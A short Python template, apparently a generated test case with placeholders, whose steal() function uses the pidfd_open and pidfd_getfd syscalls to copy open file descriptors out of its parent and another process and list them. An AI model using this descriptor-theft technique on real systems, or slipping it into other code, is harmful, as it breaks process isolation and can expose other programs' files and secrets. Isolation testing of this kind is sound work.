# @HONEST@
# @SPILL@
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def steal():
    found = []
    for pid in {os.getppid(), @PID@} - {0}:
        handle = libc.syscall(PIDFD_OPEN, pid, 0)
        for fd in range(12):
            if handle >= 0 and libc.syscall(PIDFD_GETFD, handle, fd, 0) >= 0:
                found.append(f"{pid}: {fd}")
    return "\n".join(found)
